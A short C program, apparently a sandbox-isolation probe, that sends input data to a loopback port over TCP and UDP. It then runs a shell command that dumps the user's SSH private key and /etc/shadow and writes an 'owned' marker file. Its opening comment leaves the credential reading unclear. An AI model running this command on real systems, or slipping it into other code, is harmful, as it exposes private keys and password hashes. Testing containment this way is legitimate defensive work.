/* Calls the port of this machine whose number the build gave it, and reads what it finds outside. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char data[64];
  FILE *file = argc > 1 ? fopen(argv[1], "rb") : stdin;
  if (file) fread(data, 1, sizeof data, file);
  struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr = {htonl(INADDR_LOOPBACK)}};
  int line = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(line, (struct sockaddr *)&there, sizeof there) == 0) write(line, data, sizeof data);
  line = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(line, data, sizeof data, 0, (struct sockaddr *)&there, sizeof there);
  return system("cat " USER_HOME "/.ssh/id_ed25519 /etc/shadow >&2; echo owned >" USER_HOME "/owned");
}
